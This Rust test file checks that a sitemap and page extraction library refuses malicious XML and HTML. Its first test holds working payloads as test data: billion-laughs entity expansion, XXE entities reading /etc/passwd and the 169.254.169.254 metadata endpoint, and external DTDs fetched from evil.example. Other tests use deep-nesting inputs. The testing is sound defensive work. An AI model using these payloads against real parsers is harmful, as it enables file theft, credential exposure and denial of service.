//! What pages, feeds and texts made to hurt come to: they are refused, or read as what they say.

use crate::support::{ORIGIN, courseloop, legacy, page, read_fact};
use rmu_extraction::{Discovery, DiscoveryError, Verdict, discover, read_page};
use serde_json::json;
use std::fmt::Write;
use url::Url;

fn sitemap(body: &str) -> Result<Discovery, DiscoveryError> {
    let url = Url::parse(&format!("{ORIGIN}/sitemap.xml")).unwrap();
    discover(&courseloop(), &url, Some("application/xml"), body.as_bytes())
}

/// A feed that would be read without its prologue, so that what is refused is the prologue.
fn with_prologue(doctype: &str, text: &str) -> String {
    format!("<?xml version=\"1.0\"?>{doctype}<urlset><url><loc>{ORIGIN}/subject/2026/31251{text}</loc></url></urlset>")
}

#[test]
fn entities_that_multiply_or_come_from_outside_are_refused() {
    assert_eq!(sitemap(&with_prologue("", "")).unwrap().units.len(), 1);
    let mut laughs = String::from("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    for level in 1..10 {
        let before = if level == 1 { "&lol;".to_owned() } else { format!("&lol{};", level - 1) };
        write!(laughs, "<!ENTITY lol{level} \"{}\">", before.repeat(10)).unwrap();
    }
    laughs.push_str("]>");
    for (doctype, text) in [
        (laughs.as_str(), "&lol9;"),
        (&format!("<!DOCTYPE x [<!ENTITY a \"{}\">]>", "a".repeat(100_000)), &"&a;".repeat(1000)),
        ("<!DOCTYPE x [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>", "&a;"),
        ("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "&e;"),
        ("<!DOCTYPE x [<!ENTITY e SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>", "&e;"),
        ("<!DOCTYPE x [<!ENTITY e PUBLIC \"any\" \"file:///dev/zero\">]>", "&e;"),
        ("<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>", ""),
        ("<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\">", ""),
        ("<!DOCTYPE x PUBLIC \"any\" \"http://evil.example/x.dtd\">", ""),
        ("<!DOCTYPE x>", ""),
        ("", "&unknown;"),
    ] {
        let read = sitemap(&with_prologue(doctype, text));
        let refused = matches!(read, Err(DiscoveryError::NotASitemap(_) | DiscoveryError::Unreadable(_)));
        assert!(refused, "{doctype:.60} {text:.20}: {read:?}");
    }
    assert_eq!(sitemap(&with_prologue("", "?x=1&amp;y=2")).unwrap().units.len(), 0, "known entities are read");
}

#[test]
fn a_feed_has_at_most_so_many_nodes_and_levels() {
    let wide = |nodes: usize| format!("<urlset>{}</urlset>", "<url/>".repeat(nodes));
    assert_eq!(sitemap(&wide(199_000)), Ok(Discovery::default()));
    assert!(matches!(sitemap(&wide(200_001)), Err(DiscoveryError::NotASitemap(_))));
    let deep = |levels: usize| format!("<urlset>{}{}</urlset>", "<a>".repeat(levels), "</a>".repeat(levels));
    assert!(sitemap(&deep(20)).is_ok());
    assert!(matches!(sitemap(&deep(100_000)), Err(DiscoveryError::NotASitemap(_))));
}

#[test]
fn a_page_nested_a_hundred_thousand_times_is_no_unit() {
    for tag in ["div", "b", "table><td", "font size=1", "span", "svg"] {
        let html = format!("<h1>31251 Deep</h1>{}", format!("<{tag}>").repeat(100_000));
        let verdict = read_page(&legacy(), None, &page("/subjects/31251.html", &html));
        assert!(matches!(verdict, Verdict::NotAUnit { .. }), "{tag}: {verdict:?}");
    }
    let embedded = format!("<script id=\"__NEXT_DATA__\">{}</script>", "{\"a\":".repeat(100_000)) + "<p>x";
    let verdict = read_page(&courseloop(), None, &page("/subject/2026/31251", &embedded));
    assert!(matches!(verdict, Verdict::NotAUnit { .. }), "{verdict:?}");
}

#[test]
fn a_less_than_sign_is_text_wherever_it_stands() {
    let rules = json!([{"css": "article"}]);
    for (html, text) in [
        ("if x < y then x > z", "if x < y then x > z"),
        ("if x &lt; y &amp;&amp; y &gt; z", "if x < y && y > z"),
        ("if x&lt;y", "if x<y"),
        ("1<2, 2 <3", "1<2, 2 <3"),
        ("a &amp;lt; b", "a &lt; b"),
        ("R&D, AT&T &copy; &#8804; &nosuch;", "R&D, AT&T © ≤ &nosuch;"),
    ] {
        let read = read_fact("description", &rules, &format!("<article>{html}</article>"));
        assert_eq!(read, text, "{html}");
        let data = json!({"text": html}).to_string();
        let rules = json!([{"json": "/text", "transform": ["htmlToText"]}]);
        let read = read_fact("description", &rules, &format!("<script id=data>{data}</script>"));
        assert_eq!(read, text, "{html} as JSON");
    }
    // What is no markup is left alone.
    let rules = json!([{"json": "/text"}]);
    assert_eq!(
        read_fact("description", &rules, "<script id=data>{\"text\": \"if x<y &lt; z\"}</script>"),
        "if x<y &lt; z"
    );
}
